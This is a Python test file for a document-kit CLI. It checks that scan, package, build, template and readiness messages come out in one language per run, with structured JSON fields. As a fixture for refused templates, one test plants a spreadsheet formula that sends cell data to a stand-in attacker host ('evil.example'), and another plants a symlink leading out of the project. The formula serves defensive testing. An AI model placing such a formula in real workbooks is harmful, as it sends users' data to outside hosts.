"""The jobs' errors and notes (scan, package, build, templates check, feedback, findings, readiness) in one language
per run: a French project's run says them in French, `--lang en` in English, with no word of the other language;
their JSON objects carry file, place and value as fields, never parsed back out of the words."""
from __future__ import annotations

import json
import os
import re
import shutil
from datetime import date
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook

from kitgen.cli.commands import cli
from kitgen.jobs.templates import shipped_dir

from .helpers import word_template

# words that tell a language (paths and quoted values are taken out of the lines first)
ENGLISH = re.compile(r"\b(not|the|cannot|file|folder|is|of|refused|found|missing|added|skipped|again|evidence|"
                     r"listed|outside|copy|formula|template)\b", re.IGNORECASE)
FRENCH = re.compile(r"\b(pas|le|la|les|fichier|dossier|est|introuvable|ajoutée?|ignoré|refusée?|modèle|preuve|"
                    r"relancez|listé|hors|copie|formule|illisible)\b", re.IGNORECASE)
QUOTED = re.compile(r"(?<!\w)'[^']*'(?!\w)|\"[^\"]*\"|`[^`]*`")  # not an elision: l'ouvrir


def run(*args: object) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, [str(a) for a in args], env={"LC_ALL": None, "LC_MESSAGES": None, "LANG": None})
    return result.exit_code, result.stdout, result.stderr


def words(lines: list[str], *paths: str) -> list[str]:
    """The lines less what is not words of the language: the paths named, quoted values, `Error:`."""
    out = []
    for line in lines:
        for path in sorted(paths, key=len, reverse=True):
            line = line.replace(path, " ")
        out.append(QUOTED.sub(" ", line.removeprefix("Error:")))
    return out


def assert_one_language(french: list[str], english: list[str]) -> None:
    assert french and english and len(french) == len(english), (french, english)
    assert not [line for line in french if ENGLISH.search(line)], french
    assert not [line for line in english if FRENCH.search(line)], english


def plant_scan_notes(project: Path) -> list[str]:
    """A listed file gone, an empty file, a copy, a stray file and a link out of the project: every note scan has."""
    folder = project.parent
    records = folder / "enregistrements"
    (records / "slm" / "vide-2026-10.csv").write_bytes(b"")
    shutil.copyfile(records / "change" / "change-2026-08.csv", records / "change" / "change-2026-08 (1).csv")
    (records / "inconnu").mkdir()
    (records / "inconnu" / "orphelin.pdf").write_bytes(b"%PDF-1.4 x")
    (folder.parent / "secret.txt").write_text("x", encoding="utf-8")
    (records / "slm" / "lien.txt").symlink_to(folder.parent / "secret.txt")
    (records / "slm" / "slm-2026-06.csv").unlink()
    return ["enregistrements/slm/vide-2026-10.csv", "enregistrements/change/change-2026-08 (1).csv",
            "enregistrements/change/change-2026-08.csv", "enregistrements/inconnu/orphelin.pdf",
            "enregistrements/slm/lien.txt", "enregistrements/slm/slm-2026-06.csv"]


def test_scan_notes_in_the_run_s_language(sample_copy):
    project = sample_copy("fr")
    planted = plant_scan_notes(project)
    runs = {}
    for lang in ("fr", "en"):
        code, out, err = run("scan", project, "--dry-run", "--lang", lang)
        assert code == 0, err
        runs[lang] = words([line for line in (out + err).splitlines() if any(p in line for p in planted)], *planted)
    assert len(runs["fr"]) == 5, runs  # gone, copy, stray, empty, link
    assert_one_language(runs["fr"], runs["en"])
    # scripts get the same lines, in the run's language
    data = json.loads(run("scan", project, "--dry-run", "--format", "json")[1])
    assert data["missing"] == ["enregistrements/slm/slm-2026-06.csv: listé dans le projet, mais le fichier a "
                               "disparu (l'entrée est conservée)"]


def test_package_errors_in_the_run_s_language_and_as_objects(sample_copy):
    project = sample_copy("fr")
    (project.parent / "documents/slm/slm-procedure.md").unlink()
    runs = {}
    for lang in ("fr", "en"):
        code, _, err = run("package", project, "-o", project.parent / "p.zip", "--lang", lang)
        assert code == 1 and not (project.parent / "p.zip").exists()
        assert err.startswith(f"Error: {project}: processes.slm.documents[0].path: ")
        runs[lang] = words(err.splitlines(), str(project), "processes.slm.documents[0].path")
        lines = err.splitlines()
    assert_one_language(runs["fr"], runs["en"])
    assert lines == [f"Error: {project}: processes.slm.documents[0].path: evidence file 'documents/slm/slm-procedure.md' "
                     "not found; fix the path in the project file (relative to its folder)"]
    code, out, _ = run("package", project, "-o", project.parent / "p.zip", "--format", "json")
    [error] = json.loads(out)["errors"]
    assert code == 1 and error == {
        "file": str(project), "line": None, "column": None, "path": "processes.slm.documents[0].path",
        "code": "not-found", "value": "documents/slm/slm-procedure.md", "expected": None,
        "message": "fichier de preuve 'documents/slm/slm-procedure.md' introuvable ; corrigez le chemin dans le "
                   "fichier projet (relatif à son dossier)"}


def test_template_refusals_in_the_run_s_language_and_as_objects(sample_copy, tmp_path):
    project = sample_copy("fr")
    words_tpl = word_template(tmp_path / "words", "{{ 'a b'|wordwrap(0) }}")
    cells = tmp_path / "cells"
    cells.mkdir()
    wb = load_workbook(shipped_dir() / "fr" / "action-plan.xlsx")
    wb["Synthèse"]["H40"] = '=WEBSERVICE("http://evil.example/?"&A1)'
    wb.save(cells / "action-plan.xlsx")
    runs: dict[str, list[str]] = {"fr": [], "en": []}
    for lang in runs:
        for form, folder in (("audit-report", words_tpl), ("action-plan", cells)):
            code, _, err = run("build", project, form, "--audit", "AUD-2026-01", "--templates", folder, "-o",
                               tmp_path / "out", "--lang", lang)
            assert code == 1 and len(err.splitlines()) == 1, err
            runs[lang] += words(err.splitlines(), "audit-report.docx", "action-plan.xlsx", "Synthèse!H40")
        code, _, err = run("templates", "check", words_tpl, "--lang", lang)
        assert code == 1, err
        runs[lang] += words(err.splitlines(), str(words_tpl / "audit-report.docx"))
    assert_one_language(runs["fr"], runs["en"])
    code, out, _ = run("templates", "check", words_tpl, "--format", "json", "--lang", "en")
    [found] = json.loads(out)["problems"]
    assert code == 1 and (found["file"], found["code"]) == (str(words_tpl / "audit-report.docx"), "template-refused")
    assert found["message"] == "refused by the template sandbox: `|wordwrap` needs a positive width"


def test_feedback_says_why_a_file_is_refused_in_the_run_s_language(tmp_path):
    """A refused file's reason is the refusal's own problem, in the report's language (never its English text with
    the path cut off)."""
    forms = tmp_path / "forms"
    forms.mkdir()
    (forms / "abimé.docx").write_bytes(b"not a zip")
    runs = {}
    for lang in ("fr", "en"):
        code, _, err = run("feedback", forms, "-o", tmp_path / "r.xlsx", "--lang", lang)
        assert code == 1
        [line] = [line for line in err.splitlines() if line.startswith("abimé.docx: ")]
        runs[lang] = words([line], "abimé.docx", ".docx")
    assert_one_language(runs["fr"], runs["en"])
    assert runs["fr"] == [" : fichier illisible ou refusé (pas un fichier   (pas une archive zip) ; enregistrez-le en   "
                          "et réessayez) : l'ouvrir dans Word et l'enregistrer en  "]


def test_readiness_writes_its_dates_out_in_sentences(sample_copy):
    """ISO dates stay in the JSON's fields; in the sentences they are written the language's way ('7 décembre
    2026'), but for the command a todo gives to type."""
    project = sample_copy("en")
    iso = re.compile(r"\b\d{4}-\d{2}-\d{2}\b")
    for lang, month in (("fr", "novembre"), ("en", "November")):
        code, out, _ = run("readiness", project, "--as-of", "2026-11-29", "--format", "json", "--lang", lang)
        data = json.loads(out)
        assert data["as_of"] == "2026-11-29" and data["verdict"].endswith(f"29 {month} 2026")
        # paths (records/sms/management-review-2026-10-14.md) are names, not dates
        sentences = [re.sub(r"\S*/\S*", "", c["message"] + " " + c["todo"]) for c in data["checks"]]
        assert not [s for s in sentences if iso.search(s)], sentences


def test_a_worker_killed_by_the_system_says_so(tmp_path):
    """A scan's worker process killed (as the out-of-memory killer does) is one line saying so, nothing written."""
    from kitgen.infra.parallel import worker_died

    assert "killed by the system (SIGKILL" in str(worker_died([-9, -15]))
    assert "signal SIGSEGV" in str(worker_died([-11, -15]))
    assert "exit status 9" in str(worker_died([9, -15]))
    assert str(worker_died([-15, None])).startswith("a worker process stopped abruptly; nothing was written")
    assert os.name != "posix" or worker_died([-9]).first.code == "worker-killed"


def test_a_todo_keeps_the_date_a_command_takes(sample_copy):
    """A review without minutes: the sentence writes its date out, the command to type keeps it as the option reads
    it."""
    from kitgen.jobs.readiness import check_readiness
    from kitgen.project import load_project

    project = sample_copy("en")
    text = project.read_text(encoding="utf-8")
    project.write_text(text.replace("    minutes: records/sms/management-review-2026-10-14.md\n", ""), encoding="utf-8")
    for lang, day in (("en", "14 October 2026"), ("fr", "14 octobre 2026")):
        pf = load_project(project)
        pf.project = pf.project.model_copy(update={"language": lang})
        check = next(c for c in check_readiness(pf, date(2026, 11, 29)).checks if c.id == "review-held")
        assert check.status == "fail" and day in check.message and "2026-10-14" not in check.message
        assert "kitgen build … --review 2026-10-14" in check.todo
